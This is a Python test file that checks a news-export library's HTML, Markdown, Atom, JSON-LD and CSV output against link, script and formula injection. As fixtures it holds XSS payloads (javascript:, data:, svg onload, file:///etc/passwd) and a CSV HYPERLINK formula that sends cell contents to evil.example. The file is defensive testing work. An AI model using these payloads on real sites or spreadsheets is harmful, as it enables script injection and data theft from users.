"""Across the formats a person opens (html, markdown, atom, jsonld, csv): no URL from a
page may become a live ``javascript:``/``data:`` link, nothing a page holds in its
metadata (canonical URL, image) is rendered, and no cell is a formula.

Each format's own tests go deeper; these check every URL-bearing field of one article
in every format at once, by parsing what a browser, a feed reader, a Markdown renderer
or a JSON-LD consumer would see.
"""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import lxml.html
import pytest
from markdown_it import MarkdownIt

from newskit import Article, Category, Evidence, Source

DANGEROUS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
]


def _article(url: str) -> Article:
    evidence = Evidence(text="Reuters said so.", terms=("Reuters",))
    return Article(
        id="a",
        title="Title",
        url=url,
        text="Body. Reuters said so.",
        summary="Body.",
        source=Source(name="Site", domain="site.example", url=url),
        cited_sources=[Source(name="Reuters", kind="wire", url=url, evidence=[evidence])],
        categories=[Category(name="economy", scheme="economy", score=0.9, label=True)],
        meta={"canonical_url": url, "image": url, "description": "<script>alert(1)</script>"},
    )


def _http(value: str) -> bool:
    return value.lower().startswith(("http://", "https://"))


def _html_links(page: str) -> list[str]:
    root = lxml.html.fromstring(page.encode())
    links = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if name.lower() in {"href", "src", "action", "formaction", "xlink:href", "poster"}:
                links.append(value)
    return links


@pytest.mark.parametrize("url", DANGEROUS)
def test_html_links_only_http_urls(url, write):
    links = _html_links(write("html", [_article(url)]))
    assert all(_http(link) or link.startswith("#") for link in links), links


@pytest.mark.parametrize("url", DANGEROUS)
def test_rendered_markdown_links_only_http_urls(url, write):
    rendered = MarkdownIt("commonmark", {"html": True}).render(write("markdown", [_article(url)]))
    links = _html_links(f"<div>{rendered}</div>")
    assert links == [], links  # no link at all: the URL is shown as text
    assert "<script" not in rendered


@pytest.mark.parametrize("url", DANGEROUS)
def test_atom_links_only_http_urls(url, write):
    feed = ElementTree.fromstring(write("atom", [_article(url)]))
    hrefs = [e.get("href") for e in feed.iter() if e.get("href") is not None]
    assert hrefs == []
    ids = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}id")]
    assert all(i.startswith(("urn:uuid:", "urn:newskit:")) for i in ids), ids


@pytest.mark.parametrize("url", DANGEROUS)
def test_jsonld_keeps_only_http_urls(url, write):
    (node,) = json.loads(write("jsonld", [_article(url)]))["@graph"]

    assert "url" not in node
    assert "url" not in node["publisher"]
    assert "url" not in node["citation"][0]["author"]
    assert node["@id"] == "urn:newskit:article:a"


def test_http_urls_stay_links_everywhere(write):
    url = 'https://example.com/a b"c<d>'
    safe = "https://example.com/a%20b%22c%3Cd%3E"
    article = _article(url)

    assert set(_html_links(write("html", [article]))) == {safe}
    (node,) = json.loads(write("jsonld", [article]))["@graph"]
    assert node["url"] == node["@id"] == node["publisher"]["url"] == safe
    feed = ElementTree.fromstring(write("atom", [article]))
    assert {e.get("href") for e in feed.iter() if e.get("href")} == {safe}


def test_page_metadata_is_not_rendered(write):
    marker = "https://evil.example/tracking-pixel.gif"
    article = Article(
        id="a",
        title="T",
        text="Body.",
        meta={"image": marker, "canonical_url": marker, "description": marker},
    )
    for name in ("html", "markdown", "atom", "jsonld", "csv"):
        assert marker not in write(name, [article]), name


@pytest.mark.parametrize(
    "payload",
    [
        "[x]: javascript:alert(1)",  # a link reference definition
        "[x]\n\n[x]: https://evil.example/",
        "<javascript:alert(1)>",  # an autolink
        "![img](https://evil.example/pixel.gif)",
        '<a href="javascript:alert(1)">x</a>',
        "<details open ontoggle=alert(1)>",
        "[a](<javascript:alert(1)>)",
        "www.evil.example/page",
    ],
)
def test_markdown_injection_in_any_field_stays_text(payload, write):
    article = Article(
        id=payload,
        title=payload,
        text=f"{payload}\n\n{payload}",
        summary=payload,
        authors=[payload],
        source=Source(name=payload),
    )
    rendered = MarkdownIt("commonmark", {"html": True}).render(write("markdown", [article]))

    assert _html_links(f"<div>{rendered}</div>") == []
    assert "<img" not in rendered and "<details" not in rendered and "<a " not in rendered


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_is_a_formula(trigger, write):
    payload = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"x")'
    article = Article(
        id=payload,
        url=payload,
        title=payload,
        text=payload,
        summary=payload,
        language=payload,
        authors=[payload],
        source=Source(name=payload, domain=payload),
        cited_sources=[Source(name=payload)],
        categories=[Category(name=payload, scheme="tag"), Category(name=payload, scheme="section")],
    )
    text = write("csv", [article]).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))

    cells = [cell for row in rows[1:] for cell in row]
    assert cells.count("'" + payload) == 12  # every text cell holding it, neutralised
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
